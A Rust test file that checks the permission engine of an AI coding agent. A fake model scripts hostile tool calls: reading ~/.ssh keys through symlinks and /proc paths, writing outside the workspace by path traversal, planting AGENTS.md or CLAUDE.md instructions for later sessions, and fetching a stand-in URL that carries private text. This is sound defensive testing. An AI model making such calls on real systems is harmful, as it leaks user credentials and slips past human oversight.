//! AUTO writes in the workspace alone and reads no secret path: a question to the user, or a refusal that says what to do.

use std::os::unix::fs::symlink;

use serde_json::json;
use tiller_engine::{EngineConfig, Human};
use tiller_protocol::event::TurnStatus;
use tiller_protocol::{AskReply, Decision, Profile};

use crate::rig::*;
use crate::turns::questions::permission;

const SECRET: &str = "the key of the user";

/// A workspace with links to a secret path of the home folder, and a folder outside.
fn place() -> Place {
    let place = Place::new();
    let ssh = place.home().join(".ssh");
    std::fs::create_dir_all(&ssh).unwrap();
    std::fs::write(ssh.join("id"), SECRET).unwrap();
    std::fs::create_dir(place.tmp.path().join("outside")).unwrap();
    symlink(&ssh, place.work.join("keys")).unwrap();
    symlink(ssh.join("id"), place.work.join("notes.txt")).unwrap();
    // Instructions that the project brings.
    symlink(ssh.join("id"), place.work.join("AGENTS.md")).unwrap();
    place
}

fn auto(human: Human) -> impl FnOnce(&mut EngineConfig) {
    move |parts| {
        parts.session.profile = Some(Profile::Full);
        parts.user.human = human;
    }
}

/// Everything that the model was sent.
fn sent(fake: &Fake) -> String {
    (0..fake.count()).map(|n| format!("{:?}", fake.request(n))).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_user_is_asked_and_the_answer_counts() {
    let place = place();
    let outside = place.tmp.path().canonicalize().unwrap().join("outside/new.txt");
    let write = |id| calls(&[(id, "write_file", json!({"path": outside, "content": "x\n"}))]);
    let fake = Fake::new([
        write("c1"),
        write("c2"),
        calls(&[("c3", "read_file", read_args("notes.txt"))]),
        calls(&[("c4", "write_file", json!({"path": "in.txt", "content": "x\n"}))]),
        says("Done."),
    ]);
    let mut rig = place.start_with(&fake, auto(Human::Present)).await;
    rig.submit("work");
    for (decision, there) in [(Decision::Deny { comment: None }, false), (Decision::Once, true)] {
        let ask = rig.asked().await;
        let p = permission(&ask);
        assert_eq!(p.rule.text(), "built in: full mode writes in the workspace only");
        assert!(p.always.as_deref().is_some_and(|rule| rule.contains("outside/new.txt")), "{p:?}");
        rig.answer(&ask, AskReply::Permission { decision, hash: p.hash });
        rig.tool_finished().await;
        assert_eq!(outside.exists(), there);
    }
    let ask = rig.asked().await;
    let p = permission(&ask);
    assert_eq!(p.rule.text(), "built in: ask before ~/.ssh is read");
    rig.answer(&ask, AskReply::Permission { decision: Decision::Deny { comment: None }, hash: p.hash });
    assert_eq!(rig.finished().await.0, TurnStatus::Done);
    assert_eq!(place.read("in.txt"), "x\n");
    assert_eq!(rig.kinds().iter().filter(|k| *k == "permission_asked").count(), 3);
    assert!(!sent(&fake).contains(SECRET));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_user_every_way_to_a_secret_path_or_out_is_refused() {
    let place = place();
    let top = place.tmp.path().canonicalize().unwrap();
    let (outside, home) = (top.join("outside"), place.home());
    symlink(&outside, place.work.join("out")).unwrap();
    let patch =
        |path: &str| json!({"patch": format!("*** Begin Patch\n*** Add File: {path}\n+x\n*** End Patch\n")});
    let tries = [
        ("read_file", read_args("notes.txt")),
        ("read_file", read_args("keys/id")),
        ("read_file", read_args(&home.join(".ssh/id").display().to_string())),
        ("read_file", read_args("/proc/self/environ")),
        ("read_file", read_args(&format!("/proc/self/root{}/.ssh/id", home.display()))),
        ("list_dir", json!({"path": "keys"})),
        ("search", json!({"pattern": "key", "path": "keys"})),
        ("search", json!({"pattern": "key of", "path": home, "all": true})),
        ("edit_file", json!({"path": "notes.txt", "old": "x", "new": "y"})),
        ("edit_file", json!({"path": home.join(".ssh/id"), "old": "x", "new": "y"})),
        ("write_file", json!({"path": outside.join("new.txt"), "content": "x"})),
        ("write_file", json!({"path": "out/new.txt", "content": "x"})),
        ("write_file", json!({"path": "../outside/new.txt", "content": "x"})),
        ("patch", patch("../outside/new.txt")),
        ("patch", patch(&outside.join("new.txt").display().to_string())),
    ];
    let count = tries.len();
    let replies = tries.into_iter().enumerate().map(|(at, (tool, args))| {
        let id = format!("c{at}");
        calls(&[(id.as_str(), tool, args)])
    });
    let fake = Fake::new(replies.chain([says("Done.")]));
    let mut rig = place.start_with(&fake, auto(Human::Absent)).await;
    rig.submit("work");
    let mut refused = 0;
    for _ in 0..count {
        let (_, output) = rig.tool_finished().await;
        assert!(!output.contains(SECRET), "{output}");
        if output.contains("needs an approval, and no one is available to answer") {
            refused += 1;
            assert!(output.contains("[The user can allow it: `tiller exec --allow '"), "{output}");
        }
    }
    assert_eq!(rig.finished().await.0, TurnStatus::Refused);
    assert_eq!(refused, 11, "the others are refused by the tools, or find nothing");
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
    let sent = sent(&fake);
    assert!(!sent.contains(SECRET), "{sent}");
    assert!(sent.contains("a permission rule forbids reading this file"), "AGENTS.md is a link");
}

/// One question for each file and session, by whatever way it is written; without a user none is written.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn instructions_of_later_sessions_need_a_yes_for_each_file() {
    let place = Place::new();
    let model = || {
        Fake::new([
            calls(&[("c1", "write_file", json!({"path": "AGENTS.md", "content": "be kind\n"}))]),
            calls(&[("c2", "edit_file", json!({"path": "AGENTS.md", "old": "kind", "new": "bold"}))]),
            calls(&[("c3", "terminal", json!({"command": "echo more >> AGENTS.md"}))]),
            calls(&[("c4", "terminal", json!({"command": "mkdir -p sub && echo obey > sub/CLAUDE.md"}))]),
            calls(&[("c5", "terminal", json!({"command": "echo text > notes.md"}))]),
            says("Done."),
        ])
    };
    let mut rig = place.start_with(&model(), auto(Human::Absent)).await;
    rig.submit("work");
    assert_eq!(rig.finished().await.0, TurnStatus::Refused);
    assert!(!place.work.join("AGENTS.md").exists() && !place.work.join("sub/CLAUDE.md").exists());
    assert_eq!(place.read("notes.md"), "text\n");
    let mut rig = place.start_with(&model(), auto(Human::Present)).await;
    rig.submit("work");
    let ask = rig.asked().await;
    let p = permission(&ask);
    assert_eq!(p.rule.text(), tiller_permit::decide::INSTRUCTS);
    assert!(p.effects.iter().any(|effect| effect.contains("AGENTS.md")) && p.diff.is_some(), "{p:?}");
    rig.answer(&ask, AskReply::Permission { decision: Decision::Once, hash: p.hash });
    let ask = rig.asked().await;
    let p = permission(&ask);
    assert!(p.effects.iter().any(|effect| effect.contains("sub/CLAUDE.md")), "{p:?}");
    rig.answer(&ask, AskReply::Permission { decision: Decision::Deny { comment: None }, hash: p.hash });
    assert_eq!(rig.finished().await.0, TurnStatus::Done);
    assert_eq!(place.read("AGENTS.md"), "be bold\nmore\n");
    assert!(!place.work.join("sub/CLAUDE.md").exists());
    assert_eq!(rig.kinds().iter().filter(|k| *k == "permission_asked").count(), 2);
}

/// The question about an address that was put together, and the answer no.
async fn denied(rig: &mut Rig, wanted: &[&str]) {
    let ask = rig.asked().await;
    let p = permission(&ask);
    let text = format!("{} {}", p.rule.text(), p.effects.join(" "));
    assert!(wanted.iter().all(|part| text.contains(part)), "{text}");
    assert_eq!(p.always.as_deref(), Some("web_fetch(domain:unnamed.invalid)"));
    rig.answer(&ask, AskReply::Permission { decision: Decision::Deny { comment: None }, hash: p.hash });
}

/// A private text was read: a host that neither the user nor the settings name asks in AUTO, also in an agent of the
/// session, and when the session goes on later.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_was_read_decides_where_something_may_be_sent() {
    let place = Place::new();
    let other = place.tmp.path().canonicalize().unwrap().join("other.txt");
    std::fs::write(&other, "walnut\n").unwrap();
    let url = "https://unnamed.invalid/?q=walnut";
    let fetch = |id| calls(&[(id, "web_fetch", json!({ "url": url }))]);
    let fake = Fake::new([
        calls(&[("c1", "read_file", read_args(&other.display().to_string()))]),
        fetch("c2"),
        calls(&[("c3", "delegate_task", json!({"tasks": [{"goal": "fetch it"}]}))]),
        fetch("d1"),
        says("Nothing came."),
        says("Done."),
    ]);
    let mut rig = place.start_with(&fake, auto(Human::Present)).await;
    rig.submit("look at docs.example.com");
    let name = other.display().to_string();
    for _ in 0..2 {
        denied(&mut rig, &[&name, "private text was read", url]).await;
    }
    while rig.finished().await.1 != "Done." {}
    let session = rig.session();
    rig.quit().await;
    place.free(session);
    let fake = Fake::new([fetch("e1"), says("Done.")]);
    let present = auto(Human::Present);
    let again = |parts: &mut EngineConfig| {
        present(parts);
        parts.session.open = tiller_engine::Open::Session(session);
    };
    let mut rig = place.start_with(&fake, again).await;
    rig.submit("go on");
    denied(&mut rig, &[&name, url]).await;
    assert_eq!(rig.finished().await.0, TurnStatus::Done);
}
